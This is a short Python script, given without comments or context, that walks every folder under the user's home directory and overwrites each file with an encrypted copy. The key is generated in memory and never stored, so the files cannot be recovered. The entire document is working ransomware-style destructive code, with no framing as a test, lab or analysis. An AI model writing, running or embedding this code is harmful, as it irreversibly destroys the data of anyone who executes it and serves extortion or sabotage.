import os
from cryptography.fernet import Fernet
cipher = Fernet(Fernet.generate_key())
for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(folder, name)
        data = open(path, "rb").read()
        open(path, "wb").write(cipher.encrypt(data))
